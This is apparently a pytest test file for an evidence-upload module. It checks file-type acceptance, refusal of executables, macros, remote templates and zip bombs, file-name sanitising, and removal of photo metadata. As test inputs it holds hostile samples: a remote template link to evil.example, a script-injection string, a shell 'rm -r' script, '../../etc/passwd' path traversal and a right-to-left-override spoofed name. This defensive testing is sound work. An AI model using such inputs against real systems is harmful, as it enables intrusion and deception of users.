"""Which files are taken as evidence, what is taken out of photographs, and how a download is named."""

from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from mande.followup.keeping import filetypes
from mande.followup.keeping import pictures
from mande.followup.keeping.filetypes import FileError
from mande.followup.keeping.filetypes import Problem
from mande.followup.keeping.serving import disposition
from tests import files

EXCEL = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
REMOTE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("report.pdf", files.PDF, "PDF"),
        ("scan.PDF", b"\n" * 20 + files.PDF, "PDF"),
        ("talk.jpeg", files.photograph(), "JPEG"),
        ("screen.png", files.photograph("PNG"), "PNG"),
        ("page.webp", files.photograph("WebP"), "WebP"),
        ("note.docx", files.archive(files.WORD), "Word"),
        ("figures.xlsx", files.archive(EXCEL), "Excel"),
        ("chart.docx", files.archive({**files.WORD, "word/embeddings/Sheet1.xlsx": b"PK"}), "Word"),
        ("note.odt", files.archive(files.OPEN_TEXT), "OpenDocument"),
        ("said.txt", "Ça a changé.\r\n".encode(), "text"),
        ("said.txt", "Ça a changé.".encode("cp1252"), "text"),
        ("said.txt", "Ça a changé.".encode("utf-16"), "text"),
        ("list.csv", b"name;number\nA;1\n", "CSV"),
    ],
)
def test_documents_and_photographs_are_taken(name: str, content: bytes, kind: str) -> None:
    assert filetypes.kind_of(name, content).name == kind


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("run.exe", b"MZ\x90", Problem.KIND),
        ("report.pdf.exe", files.PDF, Problem.KIND),
        ("drawing.svg", b"<svg/>", Problem.KIND),
        ("page.html", b"<p>", Problem.KIND),
        ("macro.docm", files.archive(files.WORD), Problem.KIND),
        ("archive.zip", files.archive(files.WORD), Problem.KIND),
        ("nothing", files.PDF, Problem.KIND),
        ("empty.txt", b"", Problem.EMPTY),
        ("report.pdf", b"MZ\x90 %PDF" + b"x" * 2000 + b"%PDF-", Problem.CONTENT),
        ("photo.jpg", files.photograph("PNG"), Problem.CONTENT),
        ("photo.webp", b"RIFF....AVI ", Problem.CONTENT),
        ("note.docx", files.archive(EXCEL), Problem.CONTENT),
        ("note.docx", b"PK\x03\x04 and no more", Problem.DAMAGED),
        ("note.docx", files.PDF, Problem.CONTENT),
        ("note.odt", files.archive({**files.OPEN_TEXT, "mimetype": b"application/zip"}), Problem.CONTENT),
        ("note.docx", files.archive({**files.WORD, "word/vbaProject.bin": b"x"}), Problem.MACROS),
        ("note.docx", files.archive({**files.WORD, "word/activeX/activeX1.xml": b"x"}), Problem.MACROS),
        ("note.docx", files.archive({**files.WORD, "word/embeddings/oleObject1.bin": b"x"}), Problem.MACROS),
        ("note.docx", files.archive({**files.WORD, "word/embeddings/run.exe": b"x"}), Problem.MACROS),
        ("note.docx", files.archive({**files.WORD, "word/_rels/settings.xml.rels": REMOTE}), Problem.MACROS),
        ("note.docx", files.archive({**files.WORD, "[Content_Types].xml": b"x.document.macroEnabled.main+xml"}),
         Problem.MACROS),
        ("note.odt", files.archive({**files.OPEN_TEXT, "Basic/Standard/Module1.xml": b"x"}), Problem.MACROS),
        ("said.txt", b"\x00\x01\x02", Problem.CONTENT),
        ("said.txt", b"  <!DOCTYPE html><script>alert(1)</script>", Problem.CONTENT),
        ("said.csv", b"#!/bin/sh\nrm -r x\n", Problem.CONTENT),
        ("said.txt", b"{\\rtf1 x}", Problem.CONTENT),
    ],
)  # fmt: skip
def test_programs_pages_macros_and_what_is_not_what_its_name_says_are_refused(
    name: str, content: bytes, problem: Problem
) -> None:
    with pytest.raises(FileError) as refused:
        filetypes.kind_of(name, content)

    assert refused.value.problem is problem


def test_an_archive_that_would_fill_a_disk_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(filetypes, "MOST_UNPACKED", 1000)

    with pytest.raises(FileError, match="too large"):
        filetypes.kind_of("note.docx", files.archive({**files.WORD, "word/big.xml": b"0" * 1001}))


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("report.pdf", "report.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\Ada\\my  report.PDF", "my report.PDF"),
        ("gpj\u202efdp.exe", "gpjfdp.exe"),
        ("a\x00b\nc\u200b.pdf", "ab c.pdf"),
        ('<b>"x"|?*:.pdf', "_b__x_____.pdf"),
        (".htaccess", "htaccess"),
        ("con.txt", "_con.txt"),
        ("", "file"),
        ("  ..  ", "file"),
        ("Évaluation – é.pdf", "Évaluation – é.pdf"),
        ("تقرير.pdf", "تقرير.pdf"),
        (f"{'long ' * 60}.docx", f"{('long ' * 60)[:115].rstrip()}.docx"),
    ],
)
def test_a_name_keeps_neither_folders_nor_what_deceives_the_eye(name: str, clean: str) -> None:
    assert filetypes.cleaned(name) == clean


@given(st.text(max_size=300))
def test_whatever_a_file_is_called_its_name_is_short_visible_and_goes_into_a_header(name: str) -> None:
    clean = filetypes.cleaned(name)

    assert 0 < len(clean) <= filetypes.LONGEST_NAME
    assert not set(clean) & set('/\\<>:"|?*\r\n\0')
    assert filetypes.cleaned(clean) == clean
    header = disposition(clean)
    assert header.isascii()
    assert header.isprintable()
    assert header.count('"') == 2


def test_a_download_has_a_plain_name_and_its_own() -> None:
    assert disposition("Évaluation 1.pdf") == (
        "attachment; filename=\"Evaluation 1.pdf\"; filename*=UTF-8''%C3%89valuation%201.pdf"
    )
    assert disposition("تقرير.pdf").startswith('attachment; filename="file.pdf"; filename*=')


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WebP"])
def test_a_photograph_keeps_neither_where_nor_when_nor_by_whom_it_was_taken_and_stands_upright(kind: str) -> None:
    taken = files.photograph(kind) + b"and something behind its end"
    assert b"Ada Photographer" in taken
    found = filetypes.kind_of(f"a.{kind.lower()}", taken)

    redrawn = pictures.redrawn(taken, found)

    assert b"Ada" not in redrawn
    assert b"behind" not in redrawn
    with Image.open(BytesIO(redrawn)) as picture:
        assert (picture.format, picture.size) == (kind.upper(), (20, 40))
        assert not picture.getexif()
        assert not picture.getexif().get_ifd(files.PLACE)


def test_what_is_no_picture_after_all_or_too_large_a_one_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    jpeg, png = filetypes.BY_ENDING["jpg"], filetypes.BY_ENDING["png"]
    with pytest.raises(FileError, match="damaged"):
        pictures.redrawn(files.photograph()[:200], jpeg)
    with pytest.raises(FileError, match="damaged"):
        pictures.redrawn(b"\x89PNG\r\n\x1a\n" + b"x" * 100, png)

    monkeypatch.setattr(pictures, "MOST_POINTS", 100)
    with pytest.raises(FileError, match="too large"):
        pictures.redrawn(files.photograph(), jpeg)
